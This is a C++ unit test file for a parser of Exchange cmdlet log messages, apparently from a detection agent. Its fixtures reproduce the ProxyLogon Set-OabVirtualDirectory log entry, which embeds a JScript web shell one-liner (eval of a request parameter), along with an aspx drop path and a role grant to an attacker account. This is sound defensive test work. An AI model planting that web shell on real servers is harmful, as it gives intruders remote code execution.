#include "agent/normalize/windows/exchange_cmdlet_parser.h"

#include <gtest/gtest.h>

namespace tripline::agent {
namespace {

// The OTRF ProxyLogon capture's message (hafnium-detection.md §3.5): quotes inside the quoted
// ExternalUrl are not escaped by Exchange.
constexpr std::string_view kOabMessage =
    "Cmdlet suceeded. Cmdlet Set-OabVirtualDirectory, parameters -ExternalUrl "
    "\"http://ffff/#<script language=\"JScript\" runat=\"server\"> function Page_Load()"
    "{/**/eval(Request[\"code\"],\"unsafe\");}</script>\" -Identity \"OAB (Default Web Site)\".";

TEST(ExchangeCmdletParserTest, SplitsTheRenderedMessage) {
  auto inv = ExchangeCmdletParser::ParseMessage(kOabMessage);
  ASSERT_TRUE(inv.has_value());
  EXPECT_EQ(inv->name, "Set-OabVirtualDirectory");
  EXPECT_EQ(inv->parameters_text.substr(0, 13), "-ExternalUrl ");
  EXPECT_EQ(inv->parameters_text.back(), '"');
}

TEST(ExchangeCmdletParserTest, QuotedValueKeepsUnescapedInnerQuotes) {
  auto inv = ExchangeCmdletParser::ParseMessage(kOabMessage);
  ASSERT_TRUE(inv.has_value());
  auto params = ExchangeCmdletParser::ParseParameters(inv->parameters_text);
  ASSERT_EQ(params.size(), 2u);
  EXPECT_EQ(params["ExternalUrl"],
            "http://ffff/#<script language=\"JScript\" runat=\"server\"> function Page_Load()"
            "{/**/eval(Request[\"code\"],\"unsafe\");}</script>");
  EXPECT_EQ(params["Identity"], "OAB (Default Web Site)");
}

TEST(ExchangeCmdletParserTest, BareValuesSwitchesAndColonForm) {
  auto params = ExchangeCmdletParser::ParseParameters(
      "-Mailbox admin@contoso.com -FilePath \\\\exch01\\c$\\inetpub\\x.aspx -Force -Confirm:$false");
  EXPECT_EQ(params["Mailbox"], "admin@contoso.com");
  EXPECT_EQ(params["FilePath"], "\\\\exch01\\c$\\inetpub\\x.aspx");
  EXPECT_EQ(params["Force"], "True");
  EXPECT_EQ(params["Confirm"], "$false");
}

TEST(ExchangeCmdletParserTest, NegativeNumberIsAValueNotAParameter) {
  auto params = ExchangeCmdletParser::ParseParameters("-ResultSize -1 -Identity x");
  EXPECT_EQ(params["ResultSize"], "-1");
  EXPECT_EQ(params["Identity"], "x");
}

TEST(ExchangeCmdletParserTest, Exchange2010BracedForm) {
  auto params = ExchangeCmdletParser::ParseParameters(
      "{Role=Mailbox Import Export, User=lab\\attacker, Comment=a, b}");
  EXPECT_EQ(params["Role"], "Mailbox Import Export");
  EXPECT_EQ(params["User"], "lab\\attacker");
  EXPECT_EQ(params["Comment"], "a, b");
}

TEST(ExchangeCmdletParserTest, MessageWithoutParametersAndNonCmdletText) {
  auto inv = ExchangeCmdletParser::ParseMessage("Cmdlet suceeded. Cmdlet Get-Mailbox.");
  ASSERT_TRUE(inv.has_value());
  EXPECT_EQ(inv->name, "Get-Mailbox");
  EXPECT_TRUE(inv->parameters_text.empty());
  EXPECT_FALSE(ExchangeCmdletParser::ParseMessage("The service started.").has_value());
  EXPECT_FALSE(ExchangeCmdletParser::ParseMessage("").has_value());
}

TEST(ExchangeCmdletParserTest, UnterminatedQuoteRunsToTheEnd) {
  auto params = ExchangeCmdletParser::ParseParameters("-ExternalUrl \"http://f/<script");
  EXPECT_EQ(params["ExternalUrl"], "http://f/<script");
}

}  // namespace
}  // namespace tripline::agent
